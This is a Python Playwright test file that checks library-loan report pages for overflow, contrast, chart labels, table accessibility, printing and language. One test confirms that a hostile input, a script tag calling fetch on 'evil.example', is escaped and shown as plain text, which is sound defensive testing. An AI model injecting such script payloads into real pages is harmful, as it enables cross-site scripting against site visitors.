"""Every report as a page in a real browser: it is whole by itself, fits, can be read by everybody, and prints.

What the browser shows is kept under `out/screenshots`, in both languages, wide and narrow, light and dark.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from overdue_flow import compare_policies
from overdue_flow.reports.as_page import as_page
from overdue_flow.reports.catalogue import OF_A_BOOK, OF_A_LOAN
from overdue_flow.reports.changes import changes_report
from overdue_flow.reports.handbook import handbook
from overdue_flow.reports.report import Report
from overdue_flow.reports.simulated import simulated
from overdue_flow.reports.speech import LANGUAGES, Language, spoken
from overdue_flow.reports.told import Told
from overdue_flow.simulation.trial.figures import BY_NAME
from support.adopted import on_the_book, two_versions
from support.browser import Scheme, browser, opened
from support.reported import HOSTILE, PERIOD, book, on_a_plan, reported_policy, to_court, with_complaints
from support.simulated import simulation

SHOTS = Path(__file__).parents[2] / "out" / "screenshots"
WIDTHS = (1280, 390)
SCHEMES: tuple[Scheme, ...] = ("light", "dark")
PAPER = 794
"""How many pixels a sheet of A4 is wide."""

SIMULATIONS = ("simulation", "simulation-alone")
NAMES = (*OF_A_LOAN, *OF_A_BOOK, "handbook", "changes", *SIMULATIONS)


def report_of(name: str, words: str = "as it was said") -> Report:
    """A report of the small book by its name; `words` stand wherever people write something."""
    of_whom: dict[str, Told] = {"plan": on_a_plan(), "case-file": to_court(words)}
    if name in OF_A_LOAN:
        return OF_A_LOAN[name](of_whom.get(name) or with_complaints(words), None)
    if name in SIMULATIONS:
        return simulated(simulation(challenger=name == "simulation"), BY_NAME)
    if name in OF_A_BOOK:
        return OF_A_BOOK[name](reported_policy(), book(words), PERIOD, None)
    if name == "changes":
        return changes_report(compare_policies(*two_versions()), on_the_book())
    return handbook(reported_policy())


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with browser() as started:
        yield started


@pytest.fixture(params=[f"{name}.{lang}" for name in NAMES for lang in LANGUAGES])
def page(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    name, _dot, lang = request.param.partition(".")
    file: Path = tmp_path / f"{request.param}.html"
    file.write_text(as_page(report_of(name), lang), "utf-8")
    return file


OVERFLOW = """() => {
  const wide = document.documentElement.clientWidth;
  const aside = one => {  // moved sideways in its own frame, or there for the ears alone
    const head = one.closest('thead');
    return one.closest('.wide') || (head && getComputedStyle(head).position === 'absolute');
  };
  return [...document.querySelectorAll('body *')]
    .filter(one => one.getBoundingClientRect().right > wide + 1 && !aside(one))
    .map(one => one.tagName + ' ' + one.textContent.slice(0, 40));
}"""

CONTRAST = """() => {
  const parts = colour => colour.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => {
    const [x, y, z] = [r, g, b].map(v => (v /= 255) <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * x + 0.7152 * y + 0.0722 * z;
  };
  const below = one => {  // the shape on which a word of a drawing stands
    const at = one.getBoundingClientRect(), x = (at.left + at.right) / 2, y = (at.top + at.bottom) / 2;
    return [...(one.closest('svg')?.querySelectorAll('rect') ?? [])].filter(shape => {
      const its = shape.getBoundingClientRect();
      return its.left <= x && x <= its.right && its.top <= y && y <= its.bottom && its.width > 0;
    }).pop();
  };
  const behind = one => {
    const shape = one.tagName === 'text' && below(one);
    if (shape) return parts(getComputedStyle(shape).fill);
    for (let at = one; at; at = at.parentElement) {
      const found = parts(getComputedStyle(at).backgroundColor);
      if (found.length === 3 || found[3] > 0) return found;
    }
    return [255, 255, 255];
  };
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const poor = [];
  while (walker.nextNode()) {
    const one = walker.currentNode.parentElement;
    if (!walker.currentNode.textContent.trim() || !one.checkVisibility()) continue;
    const [a, b] = [light(parts(getComputedStyle(one).color)), light(behind(one))];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) poor.push(one.tagName + ' ' + ratio.toFixed(2) + ' ' + one.textContent.slice(0, 30));
  }
  return poor;
}"""

WORDS = """() => [...document.querySelectorAll('svg.drawn')].filter(svg => svg.checkVisibility()).flatMap(svg => {
  const sheet = svg.getBoundingClientRect();
  const words = [...svg.querySelectorAll('text')].map(one => [one.textContent, one.getBoundingClientRect()]);
  const beside = words.filter(([, at]) => at.left < sheet.left - 1 || at.right > sheet.right + 1);
  const covered = words.filter(([, one], place) => words.slice(0, place).some(([, other]) =>
    Math.min(one.right, other.right) - Math.max(one.left, other.left) > 1 &&
    Math.min(one.bottom, other.bottom) - Math.max(one.top, other.top) > 4));
  return [...beside, ...covered].map(([said]) => said);
})"""
"""Words of drawings that stand beside their sheet, or on each other."""

TABLES = """() => [...document.querySelectorAll('table')].map(table => {
  const heads = [...table.querySelectorAll('thead th')];
  const rows = [...table.querySelectorAll('tbody tr')];
  return {
    named: !!document.getElementById(table.getAttribute('aria-labelledby')),
    heads: heads.length > 0 && heads.every(one => one.scope === 'col' && one.textContent.trim()),
    rows: rows.every(row => row.cells.length === heads.length && row.cells[0].scope === 'row'),
  };
})"""


def test_a_page_fits_can_be_read_and_asks_for_nothing_on_every_screen(page: Path, chromium: Browser) -> None:
    SHOTS.mkdir(parents=True, exist_ok=True)
    with opened(chromium, page) as shown:
        for width, scheme in product(WIDTHS, SCHEMES):
            shown.page.set_viewport_size({"width": width, "height": 900})
            shown.page.emulate_media(color_scheme=scheme)
            shown.page.screenshot(path=SHOTS / f"{page.stem}-{width}-{scheme}.png", full_page=True)
            assert shown.find("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
            assert shown.find(OVERFLOW) == []
            assert shown.find(CONTRAST) == []
        assert (shown.said, shown.asked) == ([], [])


def test_a_page_says_its_language_its_title_and_the_heads_of_its_tables(page: Path, chromium: Browser) -> None:
    name, _dot, lang = page.stem.partition(".")
    with opened(chromium, page) as shown:
        title = spoken(report_of(name).title, "zh" if lang == "zh" else "en")
        assert shown.find("document.documentElement.lang") == {"en": "en", "zh": "zh-CN"}[lang]
        assert shown.find("[document.title, document.querySelector('h1').textContent]") == [title, title]
        assert shown.find("document.querySelectorAll('h1').length") == 1
        assert shown.find("[...document.querySelectorAll('h2')].every(one => one.textContent.trim())")
        assert shown.find("[...document.querySelectorAll('a')].every(one => !!document.querySelector(one.hash))")
        tables = shown.find(TABLES)
        assert tables
        assert all(all(table.values()) for table in tables)


def test_a_page_prints_on_paper(page: Path, chromium: Browser) -> None:
    with opened(chromium, page, PAPER) as shown:
        shown.page.emulate_media(media="print")
        assert shown.find("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
        assert shown.find(CONTRAST) == []
        heads = "[...document.querySelectorAll('thead')].map(one => getComputedStyle(one).display)"
        assert set(shown.find(heads)) == {"table-header-group"}
        cells = "[...document.querySelectorAll('td')].every(one => getComputedStyle(one).display === 'table-cell')"
        assert shown.find(cells)
        assert shown.page.pdf(format="A4").startswith(b"%PDF-")


@pytest.mark.parametrize("lang", LANGUAGES)
@pytest.mark.parametrize("name", SIMULATIONS)
def test_words_of_a_chart_stand_on_it_and_beside_each_other_and_its_table_opens(
    name: str, lang: Language, tmp_path: Path, chromium: Browser
) -> None:
    file = tmp_path / "charts.html"
    file.write_text(as_page(report_of(name), lang), "utf-8")
    with opened(chromium, file) as shown:
        for width in WIDTHS:
            shown.page.set_viewport_size({"width": width, "height": 900})
            drawn = shown.find(
                "[...document.querySelectorAll('svg.drawn')].filter(one => one.checkVisibility()).length"
            )
            assert drawn == shown.find("document.querySelectorAll('figure').length") > 5
            assert shown.find(WORDS) == []
            for summary in shown.page.locator("summary").all():
                summary.press("Enter")
            assert shown.find("[...document.querySelectorAll('details')].every(one => one.open === true)")
            assert shown.find(OVERFLOW) == []
            assert shown.find(CONTRAST) == []
            for summary in shown.page.locator("summary").all():
                summary.press("Enter")


def test_the_check_would_see_words_of_a_chart_that_cover_each_other(tmp_path: Path, chromium: Browser) -> None:
    file = tmp_path / "bad.html"
    words = '<text x="5" y="20">one</text><text x="9" y="22">other</text><text x="95" y="60">beside the sheet</text>'
    file.write_text(
        '<!doctype html><html lang="en"><title>bad</title><body>'
        f'<svg class="drawn" width="100" viewBox="0 0 100 90"><rect width="90" height="40" fill="#111"/>{words}</svg>'
    )
    with opened(chromium, file) as shown:
        assert shown.find(WORDS) == ["beside the sheet", "other"]
        assert len(shown.find(CONTRAST)) == 2


@pytest.mark.parametrize("lang", LANGUAGES)
@pytest.mark.parametrize("name", ["case-file", "complaints", "complaint-register"])
def test_hostile_text_is_shown_as_text_and_does_nothing(
    name: str, lang: Language, tmp_path: Path, chromium: Browser
) -> None:
    file = tmp_path / "hostile.html"
    file.write_text(as_page(report_of(name, HOSTILE), lang), "utf-8")
    with opened(chromium, file) as shown:
        assert shown.find("document.querySelectorAll('script, img, iframe, object, link, form').length") == 0
        assert shown.find("[...document.querySelectorAll('*')].some(one => [...one.attributes].some("
                          "it => it.name.startsWith('on')))") is False  # fmt: skip
        if name != "complaint-register":  # it has no words of people
            assert "<script>fetch('http://evil.example/')</script>" in shown.find("document.body.textContent")
        assert (shown.said, shown.asked) == ([], [])


def test_the_check_would_see_a_page_that_asks_for_something_and_does_not_fit(tmp_path: Path, chromium: Browser) -> None:
    file = tmp_path / "bad.html"
    file.write_text(
        '<!doctype html><html lang="en"><title>bad</title><body><p style="width:2000px;color:#ccc">pale</p>'
        '<img src="http://127.0.0.1:9/x.png"><script>console.log("spoke")</script>'
    )
    with opened(chromium, file) as shown:
        assert shown.find(OVERFLOW)
        assert shown.find(CONTRAST)
        assert "spoke" in shown.said
        assert shown.asked == ["http://127.0.0.1:9/x.png"]
